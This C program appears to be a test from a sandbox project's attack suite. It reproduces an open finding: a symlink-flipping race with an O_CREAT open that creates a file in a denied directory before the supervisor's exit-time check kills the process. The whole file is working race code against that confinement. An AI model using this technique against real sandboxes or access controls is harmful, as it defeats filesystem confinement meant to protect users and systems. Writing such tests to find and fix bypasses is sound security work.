// path_creat_exit DIR SECONDS: create a file in a denied tree through an open the supervisor
// checks only at its exit (attack review of issue 17; open finding). DIR/secret/** is denied
// to the open calls (EUCLEAN). After installing a seccomp filter of its own (allow-all: its opens
// are no longer made openat2 without symlinks), threads flip DIR/pub/x between a regular file
// and a symlink to DIR/secret/new (not there) while this thread opens DIR/pub/x with O_CREAT.
// The exit check kills the process when the descriptor is in the denied tree, but the kernel
// created the file before the exit stop: DIR/secret/new existing afterwards is a BYPASS.
#include "attack.h"

#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>

static char dir[1024];
static atomic_int stop;

static void *flipper(void *arg) {
  (void)arg;
  char name[2048], tmp_link[4096], tmp_file[4096], target[2048];
  snprintf(name, sizeof name, "%s/pub/x", dir);
  snprintf(tmp_link, sizeof tmp_link, "%s.l%ld", name, (long)gettid());
  snprintf(tmp_file, sizeof tmp_file, "%s.f%ld", name, (long)gettid());
  snprintf(target, sizeof target, "%s/secret/new", dir);
  while (!stop) {
    unlink(tmp_link);
    (void)!symlink(target, tmp_link);
    (void)!rename(tmp_link, name);
    int fd = open(tmp_file, O_WRONLY | O_CREAT | O_TRUNC, 0666);
    if (fd >= 0) close(fd);
    (void)!rename(tmp_file, name);
  }
  return NULL;
}

static int race(double seconds) {
  struct sock_filter insn[] = {BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_fprog prog = {1, insn};
  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0 ||
      syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) != 0)
    return 2;
  char name[2048];
  snprintf(name, sizeof name, "%s/pub/x", dir);
  pthread_t th[2];
  for (int i = 0; i < 2; i++) pthread_create(&th[i], NULL, flipper, NULL);
  struct timespec t0, t;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((double)(t.tv_sec - t0.tv_sec) + (double)(t.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
    for (int k = 0; k < 64; k++) {
      int fd = open(name, O_WRONLY | O_CREAT | O_CLOEXEC, 0666);
      if (fd >= 0) close(fd);
    }
  }
  stop = 1;
  for (int i = 0; i < 2; i++) pthread_join(th[i], NULL);
  return 0;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  snprintf(dir, sizeof dir, "%s", argv[1]);
  pid_t child = fork();
  if (child == 0) _exit(race(atof(argv[2])));
  int st = 0;
  waitpid(child, &st, 0);
  char secret[2048];
  snprintf(secret, sizeof secret, "%s/secret/new", dir);
  struct stat s;
  const int killed = WIFSIGNALED(st) && WTERMSIG(st) == SIGKILL;
  if (lstat(secret, &s) == 0)
    bypass("filter-creat", "DIR/secret/new was created (child %s)",
           killed ? "killed at exit, too late" : "not killed");
  else if ((WIFEXITED(st) && WEXITSTATUS(st) == 0) || killed)
    ok("filter-creat", "nothing created in the denied tree");
  else
    setup_error("filter-creat", "child status %d", st);
  return finish();
}
